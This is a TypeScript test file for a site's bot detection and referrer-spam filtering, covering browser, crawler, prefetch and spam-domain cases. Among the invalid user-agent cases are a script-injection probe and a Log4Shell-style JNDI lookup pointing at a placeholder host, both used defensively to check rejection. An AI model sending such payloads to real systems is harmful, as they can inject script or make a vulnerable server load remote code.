import { describe, expect, it } from 'vitest';
import { detectBot, isReferrerSpam } from './bot.ts';

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const check = (userAgent: string, headers: Record<string, string | undefined> = {}) =>
  detectBot({ userAgent, headers });

describe('detectBot', () => {
  it.each([
    ['Chrome on Windows', chrome],
    [
      'Safari on an iPhone',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
    ],
    ['Firefox on Linux', 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'],
    [
      'Samsung Internet',
      'Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36',
    ],
    [
      'the Facebook in-app browser',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]',
    ],
    [
      'the Instagram in-app browser',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 326.0.3.30.91 (iPhone14,5; iOS 17_4; en_US; en; scale=3.00; 1170x2532; 587240478)',
    ],
    ['Internet Explorer 9', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)'],
    [
      'an Android WebView',
      'Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP1A.240405.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36',
    ],
  ])('when the visitor uses %s, then it is not a bot', (_label, userAgent) => {
    expect(check(userAgent)).toBeUndefined();
  });

  it.each([
    ['Googlebot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
    ['bingbot', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
    [
      'GPTBot',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)',
    ],
    [
      'headless Chrome',
      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36',
    ],
    [
      'Lighthouse',
      'Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse',
    ],
    ['a link preview', 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'],
    ['python-requests', 'python-requests/2.31.0'],
    ['an HTTP library', 'Go-http-client/1.1'],
  ])('when the user agent is %s, then it is a bot user agent', (_label, userAgent) => {
    expect(check(userAgent)).toBe('bot_user_agent');
  });

  it('when the user agent is missing or blank, then the reason says so', () => {
    expect(check('')).toBe('user_agent_missing');
    expect(check('   ')).toBe('user_agent_missing');
    expect(check(undefined as unknown as string)).toBe('user_agent_missing');
  });

  it('when the user agent is shorter than 16 or longer than 1000 characters, then it is rejected by length', () => {
    expect(check('curl/8.5.0')).toBe('user_agent_too_short');
    expect(check('Mozilla/5.0')).toBe('user_agent_too_short');
    expect(check(`${chrome} ${'A'.repeat(1000)}`)).toBe('user_agent_too_long');
  });

  it.each([
    ['no letters', '1234567890 12345.6789 (0000)'],
    ['control characters', `${chrome}\u0000`],
    ['markup', `${chrome} <script>alert(1)</script>`],
    ['a JNDI payload', `Mozilla/5.0 \${jndi:ldap://evil.example/a} ${chrome}`],
    ['unbalanced parentheses', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64 AppleWebKit/537.36'],
    ['a platform comment and nothing after it', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'],
    ['no browser engine after the Mozilla token', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Just text here'],
  ])('when the user agent has %s, then it is invalid', (_label, userAgent) => {
    expect(check(userAgent)).toBe('user_agent_invalid');
  });

  it('when a string is no browser at all, then isbot names it a bot before the structure checks run', () => {
    expect(check('Just some text pretending to be a browser')).toBe('bot_user_agent');
    expect(check('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)')).toBe('bot_user_agent');
  });

  it('when an old or unusual engine is named, then the visit counts', () => {
    expect(check('Mozilla/5.0 (X11; Linux) KHTML/4.9.1 (like Gecko) Konqueror/4.9')).toBeUndefined();
    expect(check('Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18')).toBeUndefined();
    expect(
      check(
        'Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393',
      ),
    ).toBeUndefined();
  });

  it('when the same user agent is checked again, then the cached verdict is the same, and prefetch still wins', () => {
    const googlebot = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
    expect([check(googlebot), check(googlebot)]).toEqual(['bot_user_agent', 'bot_user_agent']);
    expect([check(chrome), check(chrome), check(chrome, { purpose: 'prefetch' })]).toEqual([
      undefined,
      undefined,
      'prefetch',
    ]);
  });

  it('when a prefetch or prerender header is present in any case, then the request is a prefetch', () => {
    expect(check(chrome, { purpose: 'prefetch' })).toBe('prefetch');
    expect(check(chrome, { 'Sec-Purpose': 'prefetch;prerender' })).toBe('prefetch');
    expect(check(chrome, { 'x-purpose': 'preview' })).toBe('prefetch');
    expect(check(chrome, { 'X-Moz': 'prefetch' })).toBe('prefetch');
  });

  it('when the purpose headers say something else or are absent, then the visit counts', () => {
    expect(check(chrome, { purpose: 'navigate', 'sec-purpose': undefined, 'x-moz': '' })).toBeUndefined();
    expect(check(chrome, null as unknown as Record<string, string>)).toBeUndefined();
  });
});

describe('isReferrerSpam', () => {
  it('when the host is a listed domain or any subdomain of it, then it is spam', () => {
    expect(isReferrerSpam('semalt.com')).toBe(true);
    expect(isReferrerSpam('www.semalt.com')).toBe(true);
    expect(isReferrerSpam('x.y.buttons-for-website.com')).toBe(true);
    expect(isReferrerSpam('DARODAR.COM.')).toBe(true);
  });

  it('when the host only resembles a listed domain, then it is not spam', () => {
    expect(isReferrerSpam('notsemalt.com')).toBe(false);
    expect(isReferrerSpam('semalt.com.example.org')).toBe(false);
    expect(isReferrerSpam('google.com')).toBe(false);
    expect(isReferrerSpam('com')).toBe(false);
    expect(isReferrerSpam('')).toBe(false);
    expect(isReferrerSpam(undefined as unknown as string)).toBe(false);
  });
});
